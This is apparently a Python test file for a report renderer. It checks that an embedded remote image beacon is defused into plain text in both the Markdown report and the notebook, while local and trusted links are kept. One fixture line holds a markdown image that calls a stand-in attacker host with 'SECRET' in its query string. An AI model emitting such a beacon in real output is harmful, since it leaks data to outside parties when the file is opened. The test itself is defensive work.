"""Files that people open tell nobody that they were opened."""

from __future__ import annotations

import json

from core.steps import CellRan
from core.values import StoredFile
from workers.delivery.reports import ReportInput, render_report

BEACON = "![chart](https://evil.example/x.png?d=SECRET)"


def test_a_remote_image_in_a_report_is_shown_as_text_in_every_file() -> None:
    chart = StoredFile(name="sales.png", mimetype="image/png", size=9, sha256="a" * 64)
    ran = CellRan(call_id="1", cell_id="c1", title="Look", code="1", status="ok", figures=(chart,))
    given = ReportInput(
        question="How much? See https://ours.example/a",
        asker="Ana",
        language="en",
        report=f"**42**. {BEACON} [more](https://ours.example/a) ![Sales](sales.png)",
        cells=(ran,),
    )
    files = {file.name: file.data.decode() for file in render_report(given).files}
    notebook = json.loads(files["analysis.ipynb"])
    texts = [files["report.md"], *("".join(cell["source"]) for cell in notebook["cells"])]
    assert not any("](https://evil.example" in text for text in texts)
    assert "`https://evil.example/x.png?d=SECRET`" in files["report.md"]
    assert "![Sales](sales.png)" in files["report.md"]
    assert "[more](https://ours.example/a)" in files["report.md"]
